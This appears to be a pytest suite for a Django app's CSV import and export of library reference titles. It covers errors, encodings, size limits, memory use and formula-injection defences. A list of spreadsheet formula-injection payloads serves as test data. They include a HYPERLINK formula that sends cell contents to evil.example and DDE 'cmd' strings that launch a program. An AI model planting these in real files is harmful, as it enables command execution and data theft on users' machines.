"""Importing reference titles from CSV (a preview, per-row errors, all or nothing, idempotent by
ISBN and location, in bounded memory) and exporting them (formula-safe), hostile files
included."""

import csv
import io
import tracemalloc

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile

from jobhelp.core.models import AuditEntry
from jobhelp.materials import exports, imports, queries
from jobhelp.materials.imports import ImportRefused, RowError
from jobhelp.materials.models import ReferenceTitle
from tests.factories.materials import ReferenceTitleFactory
from tests.factories.organizations import LocationFactory

pytestmark = pytest.mark.usefixtures("sharing")

HEADER = ["title", "author", "isbn", "format", "location", "shelf", "copies", "times_asked"]
ROWS = [
    ["Resumes for Dummies", "Joyce Lain Kennedy", "0-306-40615-2", "book", "Northtown Library",
     "650.14", "2", "12"],
    ["Occupational Outlook Handbook", "BLS", "", "Binder or handout", "lakeside library", "",
     "1", "30"],
    ["Guía para entrevistas", "Ana Pérez", "978-0-8044-2957-3", "Libro", "Northtown Library",
     "Español", "", ""],
]  # fmt: skip


def csv_file(rows, header=HEADER, *, encoding="utf-8-sig", name="titles.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(encoding), "text/csv")


def raw_file(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("titles.csv", content, "text/csv")


def titles_of(organization) -> list[tuple]:
    return list(
        ReferenceTitle.objects.filter(organization=organization)
        .order_by("title")
        .values_list("title", "isbn", "format", "location__name", "copies", "times_asked")
    )


def refused(organization, by, upload) -> list[RowError]:
    with pytest.raises(ImportRefused) as error:
        imports.import_titles(organization, by=by, upload=upload)
    assert ReferenceTitle.objects.count() == 0
    assert not AuditEntry.objects.filter(action="jobhelp.reference_title.imported").exists()
    return error.value.report.errors


# --- Preview and import -----------------------------------------------------------------------


def test_the_preview_counts_and_writes_nothing(library, manager):
    report = imports.preview_import(library, by=manager, upload=csv_file(ROWS))

    assert (report.rows, report.new, report.changed, report.unchanged, report.ok) == (
        3,
        3,
        0,
        0,
        True,
    )
    assert (ReferenceTitle.objects.count(), AuditEntry.objects.count()) == (0, 0)


def test_the_import_writes_every_row_and_is_audited_with_counts(library, manager):
    report = imports.import_titles(library, by=manager, upload=csv_file(ROWS))

    assert (report.rows, report.new, report.written) == (3, 3, True)
    assert titles_of(library) == [
        ("Guía para entrevistas", "9780804429573", "book", "Northtown Library", 1, 0),
        ("Occupational Outlook Handbook", "", "binder", "Lakeside Library", 1, 30),
        ("Resumes for Dummies", "9780306406157", "book", "Northtown Library", 2, 12),
    ]
    assert list(AuditEntry.objects.values_list("action", "actor", "data")) == [
        (
            "jobhelp.reference_title.imported",
            manager.pk,
            {"rows": 3, "new": 3, "changed": 0, "unchanged": 0},
        )
    ]


def test_importing_the_same_file_again_changes_nothing(library, manager):
    imports.import_titles(library, by=manager, upload=csv_file(ROWS))
    before = titles_of(library)

    again = imports.import_titles(library, by=manager, upload=csv_file(ROWS))

    assert (again.new, again.changed, again.unchanged) == (0, 0, 3)
    assert titles_of(library) == before
    assert AuditEntry.objects.count() == 1


def test_a_row_is_matched_by_isbn_and_location_however_the_isbn_is_written(library, manager):
    imports.import_titles(library, by=manager, upload=csv_file(ROWS[:1]))
    changed = [["Resumes For Dummies, 2nd ed.", "", "9780306406157", "book", "Northtown Library",
                "650.14", "3", "12"]]  # fmt: skip

    report = imports.import_titles(library, by=manager, upload=csv_file(changed))

    assert (report.new, report.changed) == (0, 1)
    assert titles_of(library) == [
        ("Resumes For Dummies, 2nd ed.", "9780306406157", "book", "Northtown Library", 3, 12)
    ]


def test_the_same_isbn_at_another_location_is_another_listing(library, manager):
    other_place = [[*ROWS[0][:4], "Lakeside Library", *ROWS[0][5:]]]
    imports.import_titles(library, by=manager, upload=csv_file(ROWS[:1]))

    report = imports.import_titles(library, by=manager, upload=csv_file(other_place))

    assert report.new == 1
    assert ReferenceTitle.objects.count() == 2


def test_progress_is_reported_for_both_readings(library, manager):
    calls = []

    imports.import_titles(
        library, by=manager, upload=csv_file(ROWS), progress=lambda *call: calls.append(call)
    )

    assert calls == [("checking", 3, None), ("writing", 3, 3)]


def test_only_the_organization_s_staff_import(library, outsider, north_desk):
    for person in (outsider, north_desk):
        with pytest.raises(Exception, match="your own organizations"):
            imports.preview_import(library, by=person, upload=csv_file(ROWS))


# --- Rows with errors: all reported, nothing written ------------------------------------------


def test_every_broken_row_is_reported_with_its_line_and_column_and_nothing_is_written(
    library, manager
):
    rows = [
        ROWS[0],
        ["", "No title", "", "", "Northtown Library", "", "", ""],
        ["Bad ISBN", "", "978-0-306-40615-8", "", "Northtown Library", "", "", ""],
        ["Bad place", "", "", "", "The Moon", "", "", ""],
        ["Bad numbers", "", "", "scroll", "Northtown Library", "", "two", "-1"],
        ["Resumes again", "", "0306406152", "", "Northtown Library", "", "", ""],
    ]

    errors = refused(library, manager, csv_file(rows))

    assert errors == [
        RowError(3, "title", "Enter the title."),
        RowError(
            4,
            "isbn",
            "The ISBN 978-0-306-40615-8 has a wrong check digit: check it against the book.",
        ),
        RowError(
            5, "location", "There is no location called “The Moon” where you may list titles."
        ),
        RowError(6, "format", "“scroll” is not a format: use one of book, ebook, audiobook, "
                 "video, periodical, binder, online, other."),
        RowError(6, "copies", "Copies must be a whole number from 0 to 9,999."),
        RowError(6, "times_asked", "Times asked for must be a whole number from 0 to 999,999."),
        RowError(7, "isbn", "This title is listed twice at this location (also on line 2)."),
    ]  # fmt: skip


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["title", "author", "shelf"])
def test_a_formula_in_any_text_column_is_refused(library, manager, column, formula):
    row = dict(zip(HEADER, ROWS[0], strict=True)) | {column: formula}

    errors = refused(library, manager, csv_file([list(row.values())]))

    assert [(e.line, e.column) for e in errors] == [(2, column)]
    assert "which a spreadsheet would run as a formula" in errors[0].message


def test_a_10000_character_field_is_refused_with_its_length(library, manager):
    rows = [
        ["x" * 10_000, "", "", "", "Northtown Library", "", "", ""],
        ["Fine", "y" * 10_000, "", "", "Northtown Library", "", "", ""],
        ["Fine too", "", "", "", "z" * 10_000, "", "", ""],
    ]

    errors = refused(library, manager, csv_file(rows))

    assert errors == [
        RowError(2, "title", "Title has 10,000 characters; at most 300 are allowed."),
        RowError(3, "author", "Author has 10,000 characters; at most 200 are allowed."),
        RowError(4, "location", "Location has 10,000 characters; at most 120 are allowed."),
    ]


# --- Files that are not a list of titles ------------------------------------------------------

NOT_UTF8 = (
    "is not UTF-8 text (perhaps the file was saved as plain “CSV” in another encoding). Save "
    "it as “CSV UTF-8” and import it again."
)


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (
            "title,location\r\nFine,Northtown Library\r\nResumé,Northtown Library\r\n".encode(
                "cp1252"
            ),
            3,
            f"Line 3 {NOT_UTF8}",
        ),
        (b"title,location\r\n\xff\xfe\xfd,Northtown Library\r\n", 2, f"Line 2 {NOT_UTF8}"),
        (
            "title,location\r\nFine,Northtown Library\r\n".encode("utf-16"),
            1,
            "The file is saved as UTF-16 (“Unicode text”). Save it as “CSV UTF-8” and import "
            "it again.",
        ),
        (
            b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml",
            1,
            "This is a spreadsheet workbook, not a CSV file. Save it as “CSV UTF-8” and import "
            "that.",
        ),
        (
            b"title,location\r\nFi\x00ne,Northtown Library\r\n",
            2,
            "The file contains NUL characters, so it is not a CSV text file. Save it as “CSV "
            "UTF-8” and import it again.",
        ),
        (
            b"title,location\r\n" + b"x" * 70_000 + b",Northtown Library\r\n",
            2,
            "Line 2 is longer than 65,536 characters: this is not a list of titles.",
        ),
        (b"", 1, "The file is empty."),
        (
            b"name,place\r\nFine,Northtown Library\r\n",
            1,
            "The first line must name the columns; it lacks title, location. The columns are: "
            "title, author, isbn, format, location, shelf, partner_shelf, circulation, copies, "
            "times_asked.",
        ),
        (
            b"title,Title,location\r\n",
            1,
            "The column “title” appears twice.",
        ),
        (
            b'title,location\r\n"Fine"oops,Northtown Library\r\n',
            2,
            "The file is not a well-formed CSV file (check its quotation marks).",
        ),
    ],
    ids=[
        "windows-1252",
        "garbage-bytes",
        "utf-16",
        "xlsx",
        "nul",
        "huge-line",
        "empty",
        "no-header",
        "twice",
        "bad-quotes",
    ],
)
def test_a_file_that_is_not_a_list_of_titles_is_refused_whole(
    library, manager, content, line, message
):
    assert refused(library, manager, raw_file(content)) == [RowError(line, "", message)]


class UnreadCsv:
    size = imports.MAX_BYTES + 1

    def read(self, *args):
        raise AssertionError("the file was read")

    readline = seek = read


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(library, manager):
    too_large = [RowError(0, "", "The file is larger than 16 MB; split it into smaller files.")]

    preview = imports.preview_import(library, by=manager, upload=UnreadCsv())

    assert (preview.ok, preview.errors) == (False, too_large)
    assert refused(library, manager, UnreadCsv()) == too_large


def test_excel_s_bom_old_mac_line_endings_blank_lines_and_extra_columns_are_fine(library, manager):
    content = (
        "\ufefftitle,Location,Partner,notes\r"
        "Resumes for Dummies,Northtown Library,Riverbend County Library,whatever\r"
        ",,,\r"
        "GED Prep,Lakeside Library,,\r"
    ).encode()

    report = imports.import_titles(library, by=manager, upload=raw_file(content))

    assert (report.rows, report.new) == (2, 2)


def test_the_partner_shelf_column(library, manager, office):
    rows = [["Library card application", "WorkForce Center office", "yes"]]
    wrong = [["Library card application", "WorkForce Center office", "no"]]
    header = ["title", "location", "partner_shelf"]

    assert refused(library, manager, csv_file(wrong, header))[0].column == "location"
    imports.import_titles(library, by=manager, upload=csv_file(rows, header))

    assert ReferenceTitle.objects.get().partner_shelf is True


# --- Export, and the round trip ---------------------------------------------------------------


def export(user, **filters) -> str:
    return "".join(exports.titles_csv(queries.titles_for_user(user, **filters)))


def test_an_export_imported_again_changes_nothing(library, manager):
    imports.import_titles(library, by=manager, upload=csv_file(ROWS))
    exported = export(manager, organization=library)

    report = imports.import_titles(library, by=manager, upload=raw_file(exported.encode()))

    assert (report.rows, report.new, report.changed, report.unchanged) == (3, 0, 0, 3)
    assert exported.splitlines()[:2] == [
        "\ufefftitle,author,isbn,format,location,shelf,partner_shelf,circulation,copies,"
        "times_asked,partner",
        "Guía para entrevistas,Ana Pérez,978-0-8044-2957-3,book,Northtown Library,Español,no,"
        "circulating,1,0,Riverbend County Library",
    ]


def test_the_export_cannot_run_formulas_in_a_spreadsheet(library, manager):
    nasty = LocationFactory(organization=library, name='=HYPERLINK("http://evil")')
    tabbed = LocationFactory(organization=library, name="\t@SUM(1)")
    ReferenceTitleFactory(organization=library, location=nasty, title="A")
    ReferenceTitleFactory(organization=library, location=tabbed, title="B")

    cells = [row[4] for row in csv.reader(io.StringIO(export(manager)))][1:]

    assert cells == ['\'=HYPERLINK("http://evil")', "'\t@SUM(1)"]


def test_the_export_is_the_combined_list_the_user_may_read(library, center, office, manager):
    ReferenceTitleFactory(organization=center, location=office, title="Center book")
    ReferenceTitleFactory(organization=library, title="Library book")

    rows = list(csv.reader(io.StringIO(export(manager))))[1:]

    assert [(row[0], row[-1]) for row in rows] == [
        ("Center book", "Riverbend WorkForce Center"),
        ("Library book", "Riverbend County Library"),
    ]


# --- 20,000 titles in bounded memory ----------------------------------------------------------


def write_titles(path, count: int) -> File:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(["title", "author", "location", "copies", "times_asked", "shelf"])
        for n in range(count):
            writer.writerow(
                [
                    f"Occupational reference number {n}, with a long enough title",
                    f"Author {n % 997}",
                    "Northtown Library" if n % 2 else "Lakeside Library",
                    1 + n % 5,
                    n % 50,
                    f"Careers {n % 30}",
                ]
            )
    return File(path.open("rb"), name="titles.csv")


def peak_of_import(library, manager, upload, progress) -> int:
    tracemalloc.start()
    try:
        report = imports.import_titles(library, by=manager, upload=upload, progress=progress)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        upload.close()
    assert report.ok
    return peak


@pytest.mark.django_db
def test_20000_titles_import_with_progress_in_bounded_memory(library, manager, tmp_path):
    small = write_titles(tmp_path / "small.csv", 1_000)
    large = write_titles(tmp_path / "large.csv", 20_000)
    calls = []

    peak_small = peak_of_import(library, manager, small, None)
    peak_large = peak_of_import(library, manager, large, lambda *call: calls.append(call))

    assert ReferenceTitle.objects.count() == 20_000
    # Twenty times the rows: the peak grows by the per-row index of titles seen only (about 65
    # bytes a row; 1.2 MB here) and what the rest of the process happens to allocate meanwhile
    # (up to 2.1 MB seen in a whole-suite run), never by the rows themselves: holding them would
    # take well over ten times the file's 2 MB. Measured peaks: about 2 to 3 MB for 1,000 rows,
    # 4 MB for 20,000.
    assert large.size > 2_000_000
    assert peak_large - peak_small < 3 * 1024 * 1024
    assert peak_large < 8 * 1024 * 1024
    checking = [c for c in calls if c[0] == "checking"]
    writing = [c for c in calls if c[0] == "writing"]
    assert (len(checking), checking[-1], writing[-1]) == (
        40,
        ("checking", 20_000, None),
        ("writing", 20_000, 20_000),
    )
    assert [done for _stage, done, _total in writing] == list(range(500, 20_001, 500))
